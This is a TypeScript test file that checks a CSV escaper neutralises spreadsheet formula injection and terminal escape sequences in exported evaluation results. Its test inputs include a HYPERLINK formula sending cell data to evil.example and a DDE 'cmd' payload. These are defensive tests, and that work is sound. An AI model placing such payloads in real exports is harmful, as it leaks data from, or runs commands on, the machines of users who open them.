import { describe, expect, it } from "vitest";
import { csvCell } from "./csv.ts";
import { resultsCsv } from "./eval/report.ts";
import { EvalResultSchema } from "./eval/schema.ts";

describe("csvCell", () => {
  it("shows a program's escape sequences instead of writing them raw", () => {
    expect(csvCell("ValueError: \x1b]0;pwned\x07\x1b[2K\u009b1m")).toBe(
      "ValueError: \\x1b]0;pwned\\x07\\x1b[2K\\x9b1m",
    );
    expect(csvCell("a\tb")).toBe("a\tb");
  });

  it("neutralises text a spreadsheet would run as a formula (OWASP)", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`,
    );
    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("leaves numbers, booleans and ordinary text alone, and quotes what needs quoting", () => {
    expect(csvCell(-1.5)).toBe("-1.5");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });
});

describe("resultsCsv", () => {
  it("leaves the cost of a result with unpriced calls empty, never 0", () => {
    const base = {
      item: "q1",
      strategy: "single",
      repeat: 0,
      correct: true,
      score: 1,
      answer: "4",
      expected: "4",
      tokens: 10,
      latencyMs: 1,
      runId: "r1",
    };
    const text = resultsCsv([
      EvalResultSchema.parse({ ...base, cost: 0, unpricedCalls: 1 }),
      EvalResultSchema.parse({ ...base, item: "q2", runId: "r2", cost: 0.5 }),
    ]);
    const [head, unknown, priced] = text
      .trim()
      .split("\n")
      .map((l) => l.split(","));
    const at = head!.indexOf("cost");
    expect(unknown![at]).toBe("");
    expect(priced![at]).toBe("0.5");
  });

  it("writes a hostile answer as text in the results CSV", () => {
    const row = EvalResultSchema.parse({
      item: "@item",
      strategy: "single",
      repeat: 0,
      correct: false,
      score: 0,
      answer: '=HYPERLINK("https://evil.example/?"&A1)',
      expected: "-3",
      tokens: 1,
      cost: 0,
      latencyMs: 1,
      runId: "r1",
    });
    const [, line] = resultsCsv([row]).split("\n");
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    expect(line?.startsWith("'@item,single,0,false")).toBe(true);
    expect(line).toContain(",'-3,");
    expect(line?.split(",").some((c) => /^[=+\-@]/.test(c))).toBe(false);
  });
});
